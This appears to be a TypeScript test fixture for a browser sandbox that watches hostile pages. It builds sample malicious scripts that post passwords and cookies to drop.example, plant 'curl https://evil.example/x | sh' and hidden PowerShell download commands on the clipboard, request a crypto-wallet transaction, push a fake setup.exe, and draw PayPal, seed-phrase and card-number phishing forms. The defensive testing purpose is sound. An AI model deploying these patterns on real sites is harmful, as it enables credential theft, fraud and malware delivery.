import { open } from '../open-page.ts'

/**
 * Pages that act and draw. Before anything is replaced they keep the functions that they need under names of their own
 * (`$…`) on their own objects; what they do afterwards is syntax, so that a replacement changes nothing in a browser.
 */
const KEEP = `
  const { defineProperty, getOwnPropertyDescriptor, getPrototypeOf } = Reflect
  const keep = (object, names) => {
    for (let at = 0; at < names.length; at++) {
      let owner = object
      let given
      while (!(given = getOwnPropertyDescriptor(owner, names[at]))) owner = getPrototypeOf(owner)
      defineProperty(object, '$' + names[at], given)
    }
    return object
  }
  const spoil = (when) => globalThis.$spoil && globalThis.$spoil(when)
  const { fetch, setTimeout, alert } = globalThis`

const PHISH = `<h1>Log in to PayPal</h1><p>Your account has been limited.</p><form action="https://drop.example/login"
  method="post"><input type="email" name="email"><input type="password" name="pass"><button>Log in</button></form>`

/** Sends, offers, copies, asks the wallet, and leads away; half of it once a timer has run or a button is pressed. */
const ACTING = `${KEEP}
  const page = keep(document, ['body', 'cookie', 'createElement'])
  const body = keep(page.$body, ['appendChild', 'innerHTML', 'dispatchEvent'])
  const browser = keep(navigator, ['sendBeacon', 'clipboard'])
  const clipboard = keep(navigator.clipboard, ['writeText', 'write'])
  const wallet = keep(ethereum, ['request'])
  const addresses = keep(URL, ['createObjectURL'])
  const form = keep(page.$createElement('form'), ['action', 'submit', 'appendChild'])
  const link = keep(page.$createElement('a'), ['href', 'download', 'click'])
  const button = keep(page.$createElement('button'), ['textContent', 'addEventListener'])
  const entries = keep(history, ['pushState'])
  const request = keep(new XMLHttpRequest(), ['open', 'send'])
  const socket = keep(new WebSocket('wss://drop.example/s'), ['send'])
  const { Blob, ClipboardItem, Worker } = globalThis
  const bytes = new Uint8Array([1, 2, 255])
  const item = new ClipboardItem({ 'text/plain': new Blob(['kept item']) })
  const permission = keep(Notification, ['requestPermission'])
  const url = keep(new URL('https://evil.example/a?b=c'), ['href', 'pathname'])
  body.$appendChild(button)
  button.$textContent = 'Continue'
  button.$addEventListener('click', () => {
    spoil('click')
    clipboard.$writeText('powershell -w hidden iwr https://evil.example/p.ps1')
    clipboard.$write([item])
    fetch('https://drop.example/pressed', { method: 'POST', body: '{"password":"x"}' })
    location.href = 'https://evil.example/pressed'
  })
  spoil('before')
  fetch('https://drop.example/one', { method: 'POST', body: 'email=a&password=b', headers: { accept: 'x' } })
  browser.$sendBeacon('/beacon', 'password=beacon')
  clipboard.$writeText('curl https://evil.example/x | sh')
  wallet.$request({ method: 'eth_sendTransaction', params: [{ to: '0xabc', value: '0x1' }] })
  form.$action = 'https://drop.example/form'
  body.$appendChild(form)
  form.$submit()
  link.$href = addresses.$createObjectURL(new Blob(['MZ', bytes], { type: 'application/x-msdownload' }))
  link.$download = 'setup.exe'
  body.$appendChild(link)
  link.$click()
  entries.$pushState({ a: 1 }, '', '/inner')
  request.$open('POST', 'https://drop.example/xhr')
  request.$send('secret=1')
  socket.$send('over the socket')
  new Worker('/worker.js')
  permission.$requestPermission()
  url.$pathname = '/changed'
  page.$cookie = 'a=b'
  alert(url.$href)
  setTimeout(() => {
    spoil('timer')
    fetch('https://drop.example/late?' + page.$cookie)
    location.assign('https://evil.example/late')
  }, 100)
  setTimeout(() => { location.hash = '#x'; location.replace('https://evil.example/ok') }, 200)
  setTimeout(() => spoil('after'), 300)`

/** Draws by each of the ways that a document has, before and after a press. */
const DRAWING = `${KEEP}
  const page = keep(document, ['body', 'head', 'createElement', 'createTextNode', 'write', 'createDocumentFragment'])
  const members = ['appendChild', 'append', 'insertAdjacentHTML', 'innerHTML', 'outerHTML', 'setAttribute', 'remove',
    'textContent', 'attachShadow', 'className', 'classList', 'dataset', 'style', 'cloneNode', 'addEventListener', 'id']
  const make = (tag) => keep(page.$createElement(tag), members)
  const body = keep(page.$body, members)
  class Card extends HTMLElement {
    connectedCallback() { self.$innerHTML = '<input type="password" name="card-element">' }
  }
  customElements.define('my-card', Card)
  const self = make('my-card')
  const host = make('div')
  const shadow = keep(host.$attachShadow({ mode: 'closed' }), ['innerHTML'])
  const frame = keep(make('iframe'), ['src', 'contentDocument'])
  const inner = keep(frame.$contentDocument.body, ['innerHTML'])
  const blobFrame = keep(make('iframe'), ['src'])
  const script = keep(make('script'), ['text'])
  const box = make('div'), parted = make('section'), old = make('p'), list = make('ul')
  const tokens = keep(box.$classList, ['add'])
  const data = box.$dataset, style = keep(box.$style, ['setProperty'])
  const field = keep(make('input'), ['type', 'name', 'value'])
  const button = make('button'), bold = make('b'), late = make('div')
  const { createObjectURL } = URL
  const { Blob, HTMLElement: Base } = globalThis
  body.$appendChild(old)
  button.$textContent = 'Verify you are human'
  button.$addEventListener('click', () => {
    spoil('click')
    parted.$innerHTML = '<form><label for="s">Recovery phrase</label><textarea id="s" name="seed"></textarea></form>'
    box.$insertAdjacentHTML('beforeend', '<h2>Almost done</h2>')
  })
  body.$appendChild(button)
  spoil('before')
  box.$innerHTML = \`${PHISH}\`
  tokens.$add('box')
  data.made = 'by script'
  style.color = 'red'
  style.$setProperty('margin', '0')
  box.$setAttribute('title', 'x')
  field.$type = 'password'
  field.$name = 'pin'
  parted.$append('text ', field, bold)
  shadow.$innerHTML = '<input type="password" name="in-shadow">'
  inner.$innerHTML = '<form><input type="password" name="in-frame"></form>'
  blobFrame.$src = createObjectURL(new Blob(['<h1>In a blob</h1><input type="password" name="in-blob">'], { type: 'text/html' }))
  script.$text = "globalThis.$ran = true"
  list.$insertAdjacentHTML('beforeend', '<li data-a="b">one</li>')
  body.$append(box, parted, host, frame, blobFrame, script, list, self, list.$cloneNode(true))
  page.$write('<p id="written">written <b>here</b></p>')
  old.$outerHTML = '<p>new</p>'
  setTimeout(() => {
    spoil('timer')
    late.$className = 'late'
    late.$innerHTML = '<input name="late" type="text" placeholder="Card number">'
    body.$appendChild(late)
    alert($ran)
  }, 100)
  setTimeout(() => spoil('after'), 300)`

export const PAGES = { acting: ACTING, drawing: DRAWING } as const
export type PageName = keyof typeof PAGES

const SPOILING = 'https://shop.example/spoil.js'

/** What the sandbox makes of a page that is spoiled so. */
export const openSpoiled = (name: PageName, spoiling: string) =>
  open(
    `<!doctype html><html><head><title>Shop</title></head><body><main>Garden club</main>
    <script src="${SPOILING}"></script><script>{${PAGES[name]}}</script></body></html>`,
    { scripts: [{ url: SPOILING, text: spoiling }] },
  )
